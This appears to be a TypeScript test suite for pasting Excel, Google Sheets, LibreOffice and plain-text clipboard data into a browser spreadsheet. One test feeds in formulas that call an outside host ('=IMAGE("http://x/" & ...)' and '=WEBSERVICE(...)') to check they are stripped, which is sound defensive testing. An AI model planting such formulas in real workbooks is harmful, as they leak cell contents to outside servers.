/**
 * Pasting into the browser workbook, under the page's own Content-Security-Policy: plain text, and the HTML that Excel,
 * Google Sheets and LibreOffice put on the clipboard (test/browser-workbook/clipboard).
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { CellValue } from "../../src/workbook/port";
import { openScratch, type WorkbookPage } from "./workbook-page";

const serialOfDay = 46_346; // 2026-11-20
let workbook: WorkbookPage;
let sheet: string;

beforeAll(async () => {
  workbook = await openScratch();
});

beforeEach(async () => {
  sheet = await workbook.port((port) => port.addSheet("Pasted"), null);
});

function copied(name: string): string {
  return readFileSync(join(__dirname, "..", "browser-workbook", "clipboard", `${name}.html.txt`), "utf8");
}

interface Clipboard {
  readonly html?: string;
  readonly text?: string;
}

/** Dispatches the browser's paste event, as Ctrl+V does, at the given cell or at B2. */
async function paste(clipboard: Clipboard, at = { row: 1, col: 1, rows: 1, cols: 1 }): Promise<void> {
  const { page } = workbook;
  await workbook.port((port, area) => port.select(area), { sheet, ...at });
  await page.evaluate(() => window.invHost?.focusGrid());
  await page.evaluate(({ html, text }: Clipboard) => {
    const data = new DataTransfer();
    if (html !== undefined) data.setData("text/html", html);
    if (text !== undefined) data.setData("text/plain", text);
    const event = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true });
    document.activeElement?.dispatchEvent(event);
  }, clipboard);
}

async function read(
  what: "values" | "formulas" | "text",
  rows: number,
  cols: number,
): Promise<CellValue[][]> {
  return workbook.port(({ read }, [area, kind]) => read(area, kind), [
    { sheet, row: 1, col: 1, rows, cols },
    what,
  ] as const);
}

async function pastedText(rows: number, cols: number): Promise<CellValue[][]> {
  await workbook.until(async () => (await read("text", rows, cols)).flat().some((text) => text !== ""));
  await workbook.settled();
  return read("text", rows, cols);
}

test("Excel's copy keeps values, number formats, text GTINs and blank cells", async () => {
  await paste({ html: copied("excel-windows"), text: "not used" });
  const text = await pastedText(4, 9);
  expect(text[0]).toEqual([
    "Store",
    "GTIN",
    "Price",
    "Seen",
    "Value",
    "Share",
    "As number",
    "Delivered",
    "Note",
  ]);
  expect(text[1]?.slice(0, 4)).toEqual(["1234", "00012345678905", "1,234.50", "2026-11-20"]);
  expect(text[1]?.slice(5)).toEqual(["12%", "00012345678905", "11/20/2026", "two\nlines & more"]);
  const values = await read("values", 4, 9);
  expect(values[1]).toEqual([
    1234,
    "00012345678905",
    1234.5,
    serialOfDay,
    1234.5,
    0.12,
    12345678905,
    serialOfDay,
    "two\nlines & more",
  ]);
  expect(values[2]?.slice(0, 6)).toEqual([12, "00012345678912", -3, null, -3, 0]);
  expect(values[3]).toEqual([null, null, 1231.5, true, "#N/A", null, null, null, null]);
  expect((await read("formulas", 3, 9))[2]?.[8]).toBe("=INV.QTY(A2,B2)");
});

test("reports cells that Excel copied as #### or 1.23E+13", async () => {
  await paste({ html: copied("excel-windows") });
  await pastedText(4, 9);
  await workbook.until(async () =>
    /^2 pasted cells hold/.test((await workbook.page.textContent("#reason")) ?? ""),
  );
  await workbook.port((port, name) => port.select({ sheet: name, row: 30, col: 0, rows: 1, cols: 1 }), sheet);
  await workbook.until(async () => (await workbook.page.textContent("#reason")) === "");
});

test("pastes no formula that reaches outside the workbook", async () => {
  const cell = (formula: string, shown: string) =>
    `<td data-sheets-value='{"1":2,"2":"${shown}"}' data-sheets-formula='${formula}'>${shown}</td>`;
  await paste({
    html: `<table><tr>${cell('=IMAGE("http://x/" &amp; R[0]C[-1])', "a")}${cell("=1+R[0]C[2]", "b")}<td> =WEBSERVICE("http://x/")</td></tr></table>`,
  });
  await pastedText(1, 3);
  const formulas = await read("formulas", 1, 3);
  expect(formulas[0]?.slice(0, 2)).toEqual(["a", "=1+E2"]);
  expect(await read("text", 1, 3)).toEqual([["a", "1", '=WEBSERVICE("http://x/")']]);
  const held = await workbook.port(({ findFormulas }) => findFormulas(() => true), null);
  expect(held.filter((each) => each.sheet === sheet).map((each) => each.formula)).toEqual(["=1+E2"]);
});

test("a copy of a German Excel is read with its own separators and day first", async () => {
  await paste({ html: copied("excel-german") });
  await pastedText(1, 3);
  expect(await read("values", 1, 3)).toEqual([[1234.5, serialOfDay, 0.5]]);
});

test("a copy of Google Sheets keeps exact values, formulas that point at the same neighbours, and formats", async () => {
  await paste({ html: copied("google-sheets"), text: "not used" });
  const text = await pastedText(3, 6);
  expect(text[1]?.slice(0, 5)).toEqual(["1234", "00012345678905", "1,234.57", "2026-11-20", "2469.134"]);
  expect(text[2]).toEqual(["", "", "1234.567", "TRUE", "12.5%", "two\nlines"]);
  expect((await read("values", 3, 6))[1]?.slice(0, 4)).toEqual([
    1234,
    "00012345678905",
    1234.567,
    serialOfDay,
  ]);
  const formulas = await read("formulas", 3, 6);
  expect(formulas[1]?.slice(4)).toEqual(["=D3*2", '=INV.QTY(B3,C3,"STORE")']);
  expect(formulas[2]?.[2]).toBe("=SUM(D2:D3)");
  expect((await read("values", 3, 6))[1]?.[5]).toEqual(expect.any(Number));
});

test.each([
  ["google-sheets-2025", [[1234, "00012345678905", 1234.5, 1235]]],
  [
    "libreoffice",
    [
      [1234, "00012345678905", 1234.567],
      ["Total", null, serialOfDay],
    ],
  ],
])("a copy of %s is pasted", async (name, expected) => {
  await paste({ html: copied(name) });
  await pastedText(expected.length, expected[0]?.length ?? 0);
  expect(await read("values", expected.length, expected[0]?.length ?? 0)).toEqual(expected);
});

test("plain text keeps blank cells, empty lines, quoted cells and leading zeros", async () => {
  const lines = [
    "\tG1\tG2",
    "100\t1\t2",
    "",
    '"a ""q""\tb\nc"\t5%\t1,234.50',
    "2026-11-20\t00012345678905\t=B3*2",
  ];
  await paste({ text: `${lines.join("\r\n")}\r\n` });
  await pastedText(6, 3);
  expect(await read("values", 6, 3)).toEqual([
    [null, "G1", "G2"],
    [100, 1, 2],
    [null, null, null],
    ['a "q"\tb\nc', 0.05, 1234.5],
    [serialOfDay, "00012345678905", 200],
    [null, null, null],
  ]);
});

test("one copied cell fills a selection, and one undo takes all of it back", async () => {
  const { page } = workbook;
  await paste({ text: "7" }, { row: 1, col: 1, rows: 3, cols: 2 });
  await workbook.until(async () => (await read("values", 3, 2)).flat().every((value) => value === 7));
  await page.evaluate(() => window.invHost?.focusGrid());
  await page.keyboard.press("Control+z");
  await workbook.until(async () => (await read("values", 3, 2)).flat().every((value) => value === null));
});

test("a large paste grows the sheet, comes whole, and is one undo", async () => {
  const { page } = workbook;
  const rows = Array.from(
    { length: 2_000 },
    (_, row) => `<tr><td>${row + 1}</td><td>000${1_000 + row}</td></tr>`,
  );
  await paste({ html: `<table>${rows.join("")}</table>` });
  await workbook.until(async () => (await read("values", 2_000, 1))[1_999]?.[0] === 2_000);
  const values = await read("values", 2_000, 2);
  expect(values.map(([number]) => number)).toEqual(rows.map((_, row) => row + 1));
  expect(values.map(([, code]) => code)).toEqual(rows.map((_, row) => `000${1_000 + row}`));
  await page.evaluate(() => window.invHost?.focusGrid());
  await page.keyboard.press("Control+z");
  await workbook.until(async () => (await read("values", 2_000, 2)).flat().every((value) => value === null));
});

test("keeps cells beside and below a spanning cell in place", async () => {
  const html =
    '<table><tr><td rowspan="2">a</td><td colspan="2">b</td><td>c</td></tr><tr><td>d</td><td>e</td></tr></table>';
  await paste({ html });
  await pastedText(2, 4);
  expect(await read("values", 2, 4)).toEqual([
    ["a", "b", null, "c"],
    [null, "d", "e", null],
  ]);
});

test("the page's Content-Security-Policy refused nothing", () => {
  expect(workbook.complaints).toEqual([]);
});
